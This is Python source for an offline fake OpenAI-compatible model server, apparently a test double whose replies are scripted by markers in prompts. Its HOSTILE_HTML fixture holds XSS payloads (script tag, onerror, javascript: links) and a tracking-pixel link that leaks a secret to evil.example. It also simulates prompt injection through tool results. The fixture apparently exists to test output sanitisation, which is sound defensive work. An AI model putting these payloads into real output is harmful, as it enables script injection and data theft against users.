"""The offline, OpenAI-compatible model server: the dev default and the test double.

It speaks just enough of the OpenAI HTTP API (`/v1/models`, `/v1/chat/completions` plain and
streamed, `/v1/embeddings`) that the real `openai` SDK cannot tell it from a provider. Replies are
deterministic functions of the prompt, and markers in the last user message script the behaviour a
test needs (`[[reply: Hi]]`, `[[error: 429 retry_after=2]]`, `[[cut_after: 3]]`, ...; all listed in
docs/devmodel.md). A prompt carrying a `<sources>` block gets a grounded reply that copies from the
passages and cites them as `[n]` (grounded.py); a judge request (`<answer>` with `<reference>` or
`<sources>`, the layout of evals/prompts.py) gets a JSON verdict (judge.py); Ask once's layout,
an instruction then `---` and a text, gets the text's first sentences (tasks.py); a request
with `response_format` (or a `[[json...]]` marker) gets JSON, valid for its schema unless a marker
says otherwise (structured.py). A request offering `tools` may be answered with tool calls in
OpenAI's wire format (tools.py decides which: markers such as `[[tool: NAME {...}]]`, a forced
`tool_choice`, or a tool named by a word of the message), and after the tool results with text
about them; markers in tool results script the server too. Everything is pure asyncio so that
one process holds hundreds of slow streams, which the benchmarks need to model a real provider's
latency.

It deliberately imports nothing from Django: tests run it in a thread, e2e and `make dev` run it as
its own process.
"""

from __future__ import annotations

import asyncio
import base64
import hashlib
import json
import logging
import math
import re
import shlex
import struct
import time
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from typing import Any

from bpe_openai import get_encoding
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response, StreamingResponse
from starlette.routing import Route

from product.devmodel.grounded import find_sources, grounded_reply, without_sources
from product.devmodel.judge import find_judge_request, instructions_of, verdict
from product.devmodel.structured import json_reply, json_script, request_schema, wants_json
from product.devmodel.tasks import split_task, task_reply
from product.devmodel.titles import is_title_request, title_reply
from product.devmodel.tools import (
    ToolCall,
    ToolRequestError,
    answer_after_tools,
    completion_tokens_text,
    decide_calls,
    scripting_texts,
)
from product.devmodel.tools import content_text as _content_text
from product.devmodel.words import all_words, content_words

MODELS = ["keel-dev-small", "keel-dev-large"]
EMBEDDING_DIMENSIONS = 256
DEFAULT_EMBEDDING_MODEL = "keel-dev-embed"
ENCODING = get_encoding("o200k_base")
MARKER_RE = re.compile(r"\[\[\s*([a-z_]+)\s*(?::\s*(.*?))?\s*\]\]", re.DOTALL)
HOSTILE_HTML = (
    "Here is the *formatted* answer you asked for.\n\n"
    "<script>alert(1)</script><img src=https://evil.example/x onerror=alert(1)> "
    '<a href="javascript:alert(1)">x</a> <div hx-get="/evil">click me</div>\n\n'
    "![tracking pixel](https://evil.example/pixel.png?leak=secret)\n\n"
    "- a list item with **bold** text\n- and [a link](javascript:alert(2))\n"
)
# Plain sentences a model might write; replies pick from them by a hash of the prompt.
SENTENCES = [
    "Here is a short answer that covers the main points first.",
    "The key idea is simple, and the details follow from it.",
    "In practice, most teams start small and adjust as they learn.",
    "There are two common approaches, each with its own trade-offs.",
    "The first keeps things predictable; the second is faster to change.",
    "If you need more detail on any step, ask and I will expand on it.",
    "A good next step is to try it on one real example.",
    "That way you can see what works before committing to a plan.",
    "Keep an eye on cost and latency as usage grows.",
    "Most problems show up early, so test with realistic data.",
    "In short, choose the option your team can maintain with confidence.",
    "Let me know if you want a checklist or a worked example.",
]


class StreamCut(Exception):  # noqa: N818 (a deliberate event, not a fault)
    """Raised inside a streaming body to drop the connection abruptly (the `cut_after` marker)."""


class _DropStreamCutTracebacks(logging.Filter):
    # uvicorn logs any exception escaping the app; a scripted cut is expected, not an error.
    def filter(self, record: logging.LogRecord) -> bool:
        exc = record.exc_info[1] if record.exc_info else None
        return not isinstance(exc, StreamCut)


logging.getLogger("uvicorn.error").addFilter(_DropStreamCutTracebacks())


@dataclass
class ServerConfig:
    ttft_ms: int = 0
    token_delay_ms: int = 0
    # fail_times counters: marker key -> failures served so far. In memory on purpose: one
    # server process per test session or dev stack.
    failures: dict[str, int] = field(default_factory=dict)


@dataclass
class Script:
    """What the markers in the last user message asked for."""

    reply: str | None = None
    tokens: int | None = None
    delay_ms: int | None = None
    ttft_ms: int | None = None
    error: tuple[int, dict[str, str]] | None = None
    error_after: int | None = None
    cut_after: int | None = None
    cut_clean: bool = False
    hang: bool = False
    hostile: bool = False
    expects: list[str] = field(default_factory=list)
    fail_times: tuple[int, dict[str, str]] | None = None
    cached: int = 0
    no_usage: bool = False
    cites: list[int] = field(default_factory=list)

    @property
    def overrides_reply(self) -> bool:
        """Whether a marker dictates the reply's text, so a sources block does not ground it."""
        return self.reply is not None or self.tokens is not None or self.hostile


def _options(text: str) -> tuple[list[str], dict[str, str]]:
    """Split `503 retry_after=2 key=abc` into positional words and key=value options."""
    words: list[str] = []
    options: dict[str, str] = {}
    try:
        parts = shlex.split(text)
    except ValueError:  # an unbalanced quote: take the words as they are
        parts = text.split()
    for part in parts:
        if "=" in part:
            key, _, value = part.partition("=")
            options[key] = value
        else:
            words.append(part)
    return words, options


def parse_script(text: str) -> Script:
    script = Script()
    for match in MARKER_RE.finditer(text):
        name, arg = match.group(1), (match.group(2) or "").strip()
        words, options = _options(arg)
        if name == "reply":
            script.reply = arg
        elif name == "tokens":
            script.tokens = int(arg)
        elif name == "delay_ms":
            script.delay_ms = int(arg)
        elif name == "ttft_ms":
            script.ttft_ms = int(arg)
        elif name == "error":
            script.error = (int(words[0]) if words else 500, options)
        elif name == "error_after":
            script.error_after = int(words[0])
        elif name == "cut_after":
            script.cut_after = int(words[0])
            script.cut_clean = "clean" in words
        elif name == "hang":
            script.hang = True
        elif name == "no_usage":
            script.no_usage = True
        elif name == "hostile":
            script.hostile = True
        elif name == "expect":
            script.expects.append(arg)
        elif name == "fail_times":
            script.fail_times = (int(words[0]) if words else 1, options)
        elif name == "cached":
            script.cached = int(arg)
        elif name == "cite":
            script.cites.append(int(arg))
    return script


def strip_markers(text: str) -> str:
    return MARKER_RE.sub("", text).strip()


def count_prompt_tokens(messages: list[dict[str, Any]], tools: Any = None) -> int:
    # OpenAI's documented accounting: ~3 tokens of framing per message, 3 to prime the reply.
    # Tool calls count their names and arguments, offered tools their JSON definition (roughly
    # what a provider bills for them).
    total = 3
    for message in messages:
        total += 3 + len(ENCODING.encode_ordinary(_content_text(message.get("content"))))
        total += len(ENCODING.encode_ordinary(str(message.get("role", ""))))
        for call in message.get("tool_calls") or []:
            function = call.get("function") if isinstance(call, dict) else None
            if not isinstance(function, dict):
                continue
            for part in (function.get("name"), function.get("arguments")):
                total += len(ENCODING.encode_ordinary(str(part or "")))
    if isinstance(tools, list) and tools:
        total += len(ENCODING.encode_ordinary(json.dumps(tools)))
    return total


def _lorem(seed: str, words: int) -> str:
    """At least `words` words of plain prose, the same for the same seed."""
    digest = hashlib.sha256(seed.encode()).digest()
    out: list[str] = []
    count = 0
    i = 0
    while count < words:
        sentence = SENTENCES[(digest[i % len(digest)] + i) % len(SENTENCES)]
        out.append(sentence)
        count += len(sentence.split())
        i += 1
    return " ".join(out)


def default_reply(last_user: str) -> str:
    """A deterministic, model-looking reply: an echo of the question, then a fixed lorem."""
    words = strip_markers(last_user).split()
    summary = " ".join(words[:24]) + (" …" if len(words) > 24 else "")
    return f"Echo: {summary}\n\n{_lorem(last_user, 40)}" if summary else _lorem(last_user, 40)


def script_text(last_user: str) -> str:
    """Where the markers are read: the whole message, but a judge request's material blocks are
    data (an answer may quote the markers that scripted it)."""
    if find_judge_request(last_user) is not None:
        return instructions_of(last_user)
    return last_user


def build_reply(
    script: Script,
    last_user: str,
    sources: str | None = None,
    *,
    title: bool = False,
    after_tools: str | None = None,
) -> str:
    """The reply's text: scripted by markers, the answer after tool results (tools.py), a title
    (when the system message asks for one), a judge's verdict, grounded in a sources block, an
    extract in Ask once's task layout, or the default echo (in that order)."""
    judged = None if script.overrides_reply else find_judge_request(last_user)
    task = None if script.overrides_reply else split_task(strip_markers(last_user))
    if script.reply is not None:
        text = script.reply
    elif script.tokens is not None:
        # Exactly N tokens: grow the lorem until it is long enough, then cut at a token boundary.
        words = max(script.tokens, 1)
        text = _lorem(last_user, words)
        while len(ENCODING.encode_ordinary(text)) < script.tokens:
            words *= 2
            text = _lorem(last_user, words)
        text = ENCODING.decode(ENCODING.encode_ordinary(text)[: script.tokens])
    elif after_tools is not None:
        text = after_tools
    elif title:
        text = title_reply(strip_markers(last_user))
    elif judged is not None:
        text = verdict(judged)
    elif sources is not None and not script.overrides_reply:
        text = grounded_reply(strip_markers(without_sources(last_user)), sources)
    elif task is not None:
        text = task_reply(*task)
    else:
        text = default_reply(last_user)
    if script.hostile:
        text = HOSTILE_HTML + "\n" + text
    # Appended whether or not passage n exists: tests prove invalid citations are dropped.
    for number in script.cites:
        text = f"{text.rstrip()} [{number}]"
    return text


def token_pieces(text: str) -> list[str]:
    """Split text into per-token strings, merging tokens that only make sense together (UTF-8)."""
    pieces: list[str] = []
    pending = b""
    for token in ENCODING.encode_ordinary(text):
        pending += ENCODING.decode_bytes([token])
        try:
            pieces.append(pending.decode("utf-8"))
        except UnicodeDecodeError:
            continue
        pending = b""
    if pending:
        pieces.append(pending.decode("utf-8", errors="replace"))
    return pieces


def error_response(
    status: int, message: str, retry_after: str | None = None, retry_after_ms: str | None = None
) -> JSONResponse:
    kinds = {
        400: ("invalid_request_error", None),
        401: ("authentication_error", "invalid_api_key"),
        404: ("invalid_request_error", "model_not_found"),
        429: ("rate_limit_error", "rate_limit_exceeded"),
    }
    kind, code = kinds.get(
        status, ("server_error" if status >= 500 else "invalid_request_error", None)
    )
    headers = {"x-request-id": _request_id()}
    if retry_after is not None:
        headers["retry-after"] = retry_after
    if retry_after_ms is not None:
        headers["retry-after-ms"] = retry_after_ms
    body = {"error": {"message": message, "type": kind, "param": None, "code": code}}
    return JSONResponse(body, status_code=status, headers=headers)


def _request_id() -> str:
    return f"req_{uuid.uuid4().hex}"


async def _wait_for_disconnect(request: Request) -> None:
    # `[[hang]]` on a plain request: answer nothing until the client gives up.
    while not await request.is_disconnected():
        await asyncio.sleep(0.1)


async def list_models(request: Request) -> Response:
    data = [{"id": name, "object": "model", "created": 0, "owned_by": "keel"} for name in MODELS]
    return JSONResponse({"object": "list", "data": data}, headers={"x-request-id": _request_id()})


async def chat_completions(request: Request) -> Response:
    config: ServerConfig = request.app.state.config
    try:
        body = await request.json()
    except ValueError:
        return error_response(400, "The request body is not valid JSON.")
    messages = body.get("messages")
    if not isinstance(messages, list) or not messages:
        return error_response(400, "'messages' must be a non-empty list.")
    if not all(isinstance(m, dict) for m in messages):
        return error_response(400, "Each of 'messages' must be an object.")
    model = str(body.get("model") or MODELS[0])
    user_messages = [m for m in messages if m.get("role") == "user"]
    last_user = _content_text(user_messages[-1].get("content")) if user_messages else ""
    try:
        calls = decide_calls(
            messages,
            tools=body.get("tools"),
            tool_choice=body.get("tool_choice"),
            parallel=body.get("parallel_tool_calls") is not False,
            user_text=script_text(last_user),
        )
    except ToolRequestError as exc:
        return error_response(400, str(exc))
    except (ValueError, IndexError) as exc:
        return error_response(400, f"Bad devmodel marker: {exc}")
    try:
        # Markers in tool results script the server as well: a gullible model obeys text
        # injected into a document or a tool's output.
        script = parse_script("\n".join([script_text(last_user), *scripting_texts(messages)]))
    except (ValueError, IndexError) as exc:
        return error_response(400, f"Bad devmodel marker: {exc}")

    prompt = "\n".join(strip_markers(_content_text(m.get("content"))) for m in messages)
    for expected in script.expects:
        if expected not in prompt:
            return error_response(
                400, f"devmodel expectation failed: the prompt does not contain {expected!r}."
            )

    if script.error is not None:
        status, options = script.error
        only_model = options.get("model")
        if only_model is None or only_model == model:
            return error_response(
                status,
                options.get("message", f"Scripted error {status} from the dev model server."),
                retry_after=options.get("retry_after"),
                retry_after_ms=options.get("retry_after_ms"),
            )
    if script.fail_times is not None:
        times, options = script.fail_times
        key = options.get("key", last_user)
        served = config.failures.get(key, 0)
        if served < times:
            config.failures[key] = served + 1
            status = int(options.get("status", "503"))
            return error_response(
                status,
                f"Scripted failure {served + 1} of {times} from the dev model server.",
                retry_after=options.get("retry_after"),
                retry_after_ms=options.get("retry_after_ms"),
            )

    if script.hang and not body.get("stream"):
        await _wait_for_disconnect(request)
        return Response(status_code=499)

    if calls:
        deltas = tool_call_deltas(calls)
        first_delta: dict[str, Any] = {"role": "assistant", "content": None, "refusal": None}
        message: dict[str, Any] = {
            "role": "assistant",
            "content": None,
            "refusal": None,
            "tool_calls": [call.wire() for call in calls],
        }
        completed = completion_tokens_text(calls)
        finish_reason = "tool_calls"
    else:
        text = text_reply(body, messages, script, last_user)
        pieces = token_pieces(text)
        finish_reason = "stop"
        max_tokens = body.get("max_completion_tokens") or body.get("max_tokens")
        if isinstance(max_tokens, int) and len(pieces) > max_tokens:
            # Pieces can merge multi-byte tokens, so this may cut a hair short: fine for a double.
            pieces = pieces[:max_tokens]
            finish_reason = "length"
        deltas = [{"content": piece} for piece in pieces]
        first_delta = {"role": "assistant", "content": "", "refusal": None}
        completed = "".join(pieces)
        message = {"role": "assistant", "content": completed, "refusal": None}
    completion_tokens = len(ENCODING.encode_ordinary(completed))
    prompt_tokens = count_prompt_tokens(messages, body.get("tools"))
    usage = {
        "prompt_tokens": prompt_tokens,
        "completion_tokens": completion_tokens,
        "total_tokens": prompt_tokens + completion_tokens,
        "prompt_tokens_details": {
            "cached_tokens": min(script.cached, prompt_tokens),
            "audio_tokens": 0,
        },
        "completion_tokens_details": {"reasoning_tokens": 0, "audio_tokens": 0},
    }
    ttft_ms = script.ttft_ms if script.ttft_ms is not None else config.ttft_ms
    delay_ms = script.delay_ms if script.delay_ms is not None else config.token_delay_ms
    completion_id = f"chatcmpl-{uuid.uuid4().hex[:24]}"
    created = int(time.time())
    headers = {"x-request-id": _request_id()}

    if not body.get("stream"):
        if script.error_after is not None:
            return error_response(500, "The dev model server failed mid-generation.")
        await asyncio.sleep((ttft_ms + delay_ms * len(deltas)) / 1000)
        payload = {
            "id": completion_id,
            "object": "chat.completion",
            "created": created,
            "model": model,
            "system_fingerprint": "fp_keeldev",
            "choices": [
                {
                    "index": 0,
                    "message": message,
                    "logprobs": None,
                    "finish_reason": finish_reason,
                }
            ],
            "usage": None if script.no_usage else usage,
        }
        return JSONResponse(payload, headers=headers)

    include_usage = bool((body.get("stream_options") or {}).get("include_usage"))

    def chunk(delta: dict[str, Any], finish: str | None) -> str:
        data = {
            "id": completion_id,
            "object": "chat.completion.chunk",
            "created": created,
            "model": model,
            "system_fingerprint": "fp_keeldev",
            "choices": [{"index": 0, "delta": delta, "logprobs": None, "finish_reason": finish}],
            "usage": None,
        }
        return f"data: {json.dumps(data, separators=(',', ':'))}\n\n"

    async def events() -> AsyncIterator[str]:
        await asyncio.sleep(ttft_ms / 1000)
        if script.hang:
            # The headers went out; now nothing more, until the client's read timeout fires.
            await asyncio.sleep(3600)
        yield chunk(first_delta, None)
        for sent, delta in enumerate(deltas):
            if script.cut_after is not None and sent >= script.cut_after:
                if script.cut_clean:
                    return
                raise StreamCut
            if script.error_after is not None and sent >= script.error_after:
                error = {
                    "error": {
                        "message": "The dev model server failed mid-stream.",
                        "type": "server_error",
                        "param": None,
                        "code": None,
                    }
                }
                yield f"data: {json.dumps(error)}\n\n"
                return
            if delay_ms and sent:
                await asyncio.sleep(delay_ms / 1000)
            yield chunk(delta, None)
        if script.cut_after is not None and script.cut_after >= len(deltas):
            if script.cut_clean:
                return
            raise StreamCut
        yield chunk({}, finish_reason)
        if include_usage and not script.no_usage:
            data = {
                "id": completion_id,
                "object": "chat.completion.chunk",
                "created": created,
                "model": model,
                "system_fingerprint": "fp_keeldev",
                "choices": [],
                "usage": usage,
            }
            yield f"data: {json.dumps(data, separators=(',', ':'))}\n\n"
        yield "data: [DONE]\n\n"

    headers["cache-control"] = "no-cache"
    return StreamingResponse(events(), media_type="text/event-stream", headers=headers)


def text_reply(
    body: dict[str, Any], messages: list[dict[str, Any]], script: Script, last_user: str
) -> str:
    """The text of a reply that calls no tool: JSON for a JSON request, else build_reply's."""
    sources = find_sources([_content_text(m.get("content")) for m in messages])
    system = "\n".join(
        _content_text(m.get("content")) for m in messages if m.get("role") == "system"
    )
    user_texts = [_content_text(m.get("content")) for m in messages if m.get("role") == "user"]
    scripted_json = json_script(user_texts)
    response_format = body.get("response_format")
    if wants_json(response_format) or scripted_json.scripted:
        return json_reply(scripted_json, request_schema(response_format, system))
    question = strip_markers(without_sources(last_user))
    return build_reply(
        script,
        last_user,
        sources,
        title=is_title_request(system),
        after_tools=answer_after_tools(messages, question),
    )


def tool_call_deltas(calls: list[ToolCall]) -> list[dict[str, Any]]:
    """The stream's deltas for tool calls, as OpenAI sends them: per call one delta with its id,
    name and empty arguments, then the arguments in token-sized fragments, each by index."""
    deltas: list[dict[str, Any]] = []
    for index, call in enumerate(calls):
        head = {"index": index, **call.wire()}
        head["function"] = {"name": call.name, "arguments": ""}
        deltas.append({"tool_calls": [head]})
        deltas.extend(
            {"tool_calls": [{"index": index, "function": {"arguments": fragment}}]}
            for fragment in token_pieces(call.arguments)
        )
    return deltas


def embed_text(
    text: str, dimensions: int = EMBEDDING_DIMENSIONS, model: str = DEFAULT_EMBEDDING_MODEL
) -> list[float]:
    """Hashed bag of content words, L2-normalised: texts sharing them get a high cosine similarity.

    Words are lowercased, function words dropped and suffixes folded (product/devmodel/words.py), so
    "stale jobs are re-enqueued" and "the reaper re-enqueues a stale job" land close together. The
    model name seeds the hash: each model is its own vector space, as with real providers, so
    vectors from two models must not be compared (the knowledge feature re-embeds on a switch).
    """
    vector = [0.0] * dimensions
    # A text of function words only ("to be or not to be") still deserves its own direction.
    words = content_words(text) or all_words(text)
    for word in words:
        digest = hashlib.blake2b(f"{model}\0{word}".encode(), digest_size=8).digest()
        index = int.from_bytes(digest[:4], "little") % dimensions
        vector[index] += 1.0 if digest[4] & 1 else -1.0
    norm = math.sqrt(sum(v * v for v in vector))
    if norm == 0:
        # An empty text (or one whose words cancelled out) still needs a unit vector: a fixed
        # axis, per model.
        digest = hashlib.blake2b(model.encode(), digest_size=4).digest()
        vector = [0.0] * dimensions
        vector[int.from_bytes(digest, "little") % dimensions] = 1.0
        return vector
    return [v / norm for v in vector]


async def embeddings(request: Request) -> Response:
    try:
        body = await request.json()
    except ValueError:
        return error_response(400, "The request body is not valid JSON.")
    raw = body.get("input")
    if isinstance(raw, str):
        inputs = [raw]
    elif isinstance(raw, list) and raw and all(isinstance(item, int) for item in raw):
        inputs = [ENCODING.decode(raw)]
    elif isinstance(raw, list) and raw:
        inputs = [item if isinstance(item, str) else ENCODING.decode(item) for item in raw]
    else:
        return error_response(400, "'input' must be a string or a non-empty list.")
    dimensions = int(body.get("dimensions") or EMBEDDING_DIMENSIONS)
    if not 1 <= dimensions <= 4096:
        return error_response(400, "'dimensions' must be between 1 and 4096.")
    model = str(body.get("model") or DEFAULT_EMBEDDING_MODEL)
    as_base64 = body.get("encoding_format") == "base64"
    data: list[dict[str, Any]] = []
    tokens = 0
    for index, text in enumerate(inputs):
        vector = embed_text(text, dimensions, model)
        tokens += len(ENCODING.encode_ordinary(text))
        encoded: Any = vector
        if as_base64:
            encoded = base64.b64encode(struct.pack(f"<{dimensions}f", *vector)).decode()
        data.append({"object": "embedding", "index": index, "embedding": encoded})
    payload = {
        "object": "list",
        "data": data,
        "model": model,
        "usage": {"prompt_tokens": tokens, "total_tokens": tokens},
    }
    return JSONResponse(payload, headers={"x-request-id": _request_id()})


def create_app(*, ttft_ms: int = 0, token_delay_ms: int = 0) -> Starlette:
    app = Starlette(
        routes=[
            Route("/v1/models", list_models, methods=["GET"]),
            Route("/v1/chat/completions", chat_completions, methods=["POST"]),
            Route("/v1/embeddings", embeddings, methods=["POST"]),
        ]
    )
    app.state.config = ServerConfig(ttft_ms=ttft_ms, token_delay_ms=token_delay_ms)
    return app
